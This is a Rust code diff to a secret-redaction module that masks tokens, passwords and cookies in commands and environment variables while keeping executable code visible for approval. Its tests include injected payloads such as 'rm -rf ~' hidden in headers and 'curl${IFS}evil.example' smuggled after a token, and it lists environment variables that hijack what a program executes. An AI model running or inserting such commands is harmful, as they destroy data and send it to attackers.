@@ -28,15 +28,17 @@ const TELLING: &[&str] = &[
     "dsn",
     "session",
     "bearer",
+    "passphrase",
+    "jwt",
     "signature",
 ];
 
 /// A variable's or header's value: placeholders stay, text goes.
 pub fn value(template: &Template) -> String {
     if let Some(command) = template.shell_command() {
-        return format!("!{}", words(command));
+        return format!("!{}", word(command));
     }
-    template
+    let shown: String = template
         .parts()
         .map(|part| match part {
             PartRef::Text(text) if text.trim().is_empty() || is_auth_scheme(text) => text.to_owned(),
@@ -46,12 +48,43 @@ pub fn value(template: &Template) -> String {
             PartRef::File(path) => format!("{{file:{path}}}"),
             PartRef::Input(id) => format!("${{input:{id}}}"),
             PartRef::Stored(id) => format!("${{{{ secrets.{id} }}}}"),
-            PartRef::Command(command) => format!("$({})", words(command)),
+            PartRef::Command(command) => format!("$({})", word(command)),
             PartRef::Folder(folder) => format!("${{{folder:?}}}"),
             PartRef::Unknown(text) => text.to_owned(),
         })
-        .collect::<Vec<_>>()
-        .concat()
+        .collect();
+    visible(&shown).into_owned()
+}
+
+/// A variable of a child: hidden like any value, unless it decides what the child executes. Such a one must be seen.
+pub fn variable(name: &str, template: &Template) -> String {
+    const LOADERS: &[&str] = &[
+        "PATH",
+        "NODE_OPTIONS",
+        "NODE_PATH",
+        "PYTHONPATH",
+        "PYTHONSTARTUP",
+        "PYTHONHOME",
+        "RUBYOPT",
+        "RUBYLIB",
+        "PERL5OPT",
+        "PERL5LIB",
+        "JAVA_TOOL_OPTIONS",
+        "BASH_ENV",
+        "ENV",
+        "SHELL",
+        "EDITOR",
+        "PAGER",
+        "GIT_SSH",
+        "GIT_SSH_COMMAND",
+        "PROMPT_COMMAND",
+        "IFS",
+    ];
+    let upper = name.to_ascii_uppercase();
+    if LOADERS.contains(&upper.as_str()) || upper.starts_with("LD_") || upper.starts_with("DYLD_") {
+        return word(template.raw());
+    }
+    value(template)
 }
 
 /// A list of arguments, without the keys in it.
@@ -59,7 +92,12 @@ pub fn args<'a>(args: impl IntoIterator<Item = &'a Template>) -> Vec<String> {
     let mut shown = Vec::new();
     let mut next = Next::Show;
     for arg in args {
-        shown.push(runs(&visible(arg.raw()), &mut next));
+        let text = visible(arg.raw());
+        // After a telling option the whole word is a secret, unless there is code in it.
+        let hide =
+            next == Next::Hide && !text.starts_with('-') && !is_placeholder(&text) && !text.contains(CODE);
+        shown.push(if hide { STARS.to_owned() } else { runs(&text, &mut next) });
+        next = if is_telling_option(&text) { Next::Hide } else { Next::Show };
     }
     shown
 }
@@ -67,11 +105,6 @@ pub fn args<'a>(args: impl IntoIterator<Item = &'a Template>) -> Vec<String> {
 /// A command, an argument or any other text, without a key in it.
 pub fn word(text: &str) -> String {
     runs(&visible(text), &mut Next::Show)
-}
-
-/// A shell command, without the keys in it.
-pub fn words(text: &str) -> String {
-    word(text)
 }
 
 /// Whether an option of this spelling is followed by a secret.
@@ -83,21 +116,28 @@ pub fn is_telling_option(arg: &str) -> bool {
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Next {
     Show,
-    /// It follows a telling name.
+    /// A telling name stands before it; a colon would make it a secret.
+    AfterName,
+    /// It is a secret.
     Hide,
 }
+
+/// Characters that make a shell do something.
+const CODE: &[char] = &[';', '|', '&', '<', '>', '(', ')', '`', '{', '}', '\n'];
 
 /// Goes through a text run by run, so that a key is hidden and never the code around it: what would be executed
 /// must stay readable for whoever has to agree to it.
 fn runs(text: &str, next: &mut Next) -> String {
-    const ENDS: &[char] = &[' ', '\t', ';', '|', '<', '>', '(', ')', '`', '"', '\'', '\\'];
+    if text.trim_start().to_ascii_lowercase().starts_with("cookie:") && !text.contains(['|', '`', '(']) {
+        return format!("Cookie: {STARS}");
+    }
     let mut shown = String::with_capacity(text.len());
     let mut rest = text;
     while !rest.is_empty() {
-        let end = rest.find(ENDS).unwrap_or(rest.len());
+        let end = run_end(rest);
         if end == 0 {
             let separator = rest.chars().next().unwrap_or(' ');
-            if matches!(separator, ';' | '|' | '<' | '>' | '(' | ')' | '`') {
+            if CODE.contains(&separator) {
                 *next = Next::Show;
             }
             shown.push(separator);
@@ -111,20 +151,43 @@ fn runs(text: &str, next: &mut Next) -> String {
     shown
 }
 
+/// The end of the run at the start of the text. A placeholder belongs to its run; an address keeps its `&`.
+fn run_end(text: &str) -> usize {
+    let is_address = text.split([' ', '"', '\'']).next().is_some_and(|word| word.contains("://"));
+    let mut inside = false;
+    for (index, c) in text.char_indices() {
+        match c {
+            '$' if text[index..].starts_with("${") => inside = text[index..].contains('}'),
+            '{' if inside => {}
+            '{' if text[index..].starts_with("{env:") || text[index..].starts_with("{file:") => inside = true,
+            '}' if inside => inside = false,
+            '&' if is_address => {}
+            ' ' | '\t' | '"' | '\'' | '\\' | ',' if !inside => return index,
+            c if CODE.contains(&c) && !inside => return index,
+            _ => {}
+        }
+    }
+    text.len()
+}
+
 fn one_run(run: &str, next: &mut Next) -> String {
-    let hide = std::mem::replace(next, Next::Show) == Next::Hide;
-    if hide && is_auth_scheme(run) {
+    let before = std::mem::replace(next, Next::Show);
+    if before == Next::Hide && is_auth_scheme(run) {
         *next = Next::Hide;
         return run.to_owned();
     }
-    if is_telling_option(run) || (run.ends_with(':') && is_telling(run)) {
+    if before == Next::AfterName && matches!(run, ":" | "=") {
+        *next = Next::Hide;
+        return run.to_owned();
+    }
+    if is_telling_option(run) || (run.ends_with([':', '=']) && is_telling(run)) {
         *next = Next::Hide;
         return run.to_owned();
     }
     if is_placeholder(run) {
         return run.to_owned();
     }
-    if hide && !run.starts_with('-') {
+    if before == Next::Hide && !run.starts_with('-') {
         return STARS.to_owned();
     }
     if run.contains("://") {
@@ -132,18 +195,29 @@ fn one_run(run: &str, next: &mut Next) -> String {
     }
     if let Some((name, default)) =
         run.strip_prefix("${").and_then(|rest| rest.strip_suffix('}')?.split_once(":-"))
+        && !default.contains('{')
         && (is_telling(name) || looks_random(default))
     {
         return format!("${{{name}:-{STARS}}}");
     }
     for separator in ['=', ':'] {
-        if let Some((name, value)) = run.split_once(separator)
-            && !value.is_empty()
-            && !is_placeholder(value)
-            && (is_telling(name) || looks_random(value))
-        {
-            return format!("{name}{separator}{STARS}");
+        let Some((name, value)) = run.split_once(separator) else { continue };
+        if value.is_empty() || is_placeholder(value) || !(is_telling(name) || looks_random(value)) {
+            continue;
         }
+        if is_auth_scheme(value) {
+            *next = Next::Hide;
+            return run.to_owned();
+        }
+        return format!("{name}{separator}{STARS}");
+    }
+    if let Some((user, host)) = run.rsplit_once('@')
+        && user.contains(':')
+    {
+        return format!("{STARS}@{host}");
+    }
+    if is_telling(run) {
+        *next = Next::AfterName;
     }
     if looks_random(run) { STARS.to_owned() } else { run.to_owned() }
 }
@@ -169,8 +243,8 @@ pub fn url(text: &str) -> String {
         let pairs = query.split('&').map(|pair| match pair.split_once('=') {
             Some((_, value)) if is_placeholder(value) => pair.to_owned(),
             Some((name, _)) => format!("{name}={STARS}"),
-            None if looks_random(pair) => STARS.to_owned(),
-            None => pair.to_owned(),
+            None if pair.is_empty() || is_placeholder(pair) => pair.to_owned(),
+            None => STARS.to_owned(),
         });
         format!("?{}", pairs.collect::<Vec<_>>().join("&"))
     });
@@ -182,16 +256,17 @@ pub fn url(text: &str) -> String {
 pub fn is_telling(name: &str) -> bool {
     let name: String =
         name.chars().filter(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
-    TELLING.iter().any(|telling| name.contains(telling)) || name == "key" || name.ends_with("key")
+    let ends = ["key", "pass", "pat", "pin"];
+    TELLING.iter().any(|telling| name.contains(telling)) || ends.iter().any(|end| name.ends_with(end))
 }
 
-/// Whether the text is one placeholder and nothing else.
+/// Whether the text is one placeholder without a default, and nothing else.
 fn is_placeholder(text: &str) -> bool {
-    (text.starts_with("${") && text.ends_with('}') && !text.contains(":-"))
-        || (text.starts_with("{env:") && text.ends_with('}'))
-        || (text.strip_prefix('$').is_some_and(|name| {
-            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
-        }))
+    let inner = text
+        .strip_prefix("${")
+        .or_else(|| text.strip_prefix("{env:"))
+        .and_then(|rest| rest.strip_suffix('}'));
+    inner.is_some_and(|inner| !inner.contains(['{', '}']) && !inner.contains(":-"))
 }
 
 fn is_auth_scheme(text: &str) -> bool {
@@ -302,6 +377,14 @@ mod tests {
         check(&["${API_KEY:-hunter2}"], &["${API_KEY:-***}"]);
         check(&["--header", "Authorization: Bearer ${T}"], &["--header", "Authorization: Bearer ${T}"]);
         check(&["ghp_exampleexampleexample"], &["***"]);
+        check(&["Authorization:Bearer hunter2"], &["Authorization:Bearer ***"]);
+        check(&["{\"apiKey\":\"hunter2\",\"n\":1}"], &["{\"apiKey\":\"***\",\"n\":1}"]);
+        check(&["--password", "correct horse hunter2"], &["--password", "***"]);
+        check(&["--password", "$hunter2"], &["--password", "***"]);
+        check(&["--api-key", "${A}hunter2${B}"], &["--api-key", "***"]);
+        check(&["Cookie: a=b; uid=hunter2"], &["Cookie: ***"]);
+        check(&["--passphrase", "hunter2"], &["--passphrase", "***"]);
+        check(&["me:hunter2@host"], &["***@host"]);
         check(&["a1B2c3D4e5F6g7H8i9J0k1"], &["***"]);
         check(&["postgres://me:pw@db/x"], &["postgres://***@db/x"]);
         check(&["/home/me/projects/app-2024"], &["/home/me/projects/app-2024"]);
@@ -317,6 +400,8 @@ mod tests {
         check("curl https://a.dev?b=c;rm -rf ~", "curl https://a.dev?b=***;rm -rf ~");
         check("Authorization: Bearer x `rm -rf ~`", "Authorization: Bearer *** `rm -rf ~`");
         check("Authorization: Bearer $(rm -rf ~)", "Authorization: Bearer ***(rm -rf ~)");
+        check("TOKEN=x&curl${IFS}evil.example>f", "TOKEN=***&curl${IFS}evil.example>f");
+        check("--key={evil,-c,cmd}", "--key={evil,-c,cmd}");
     }
 
     #[test]
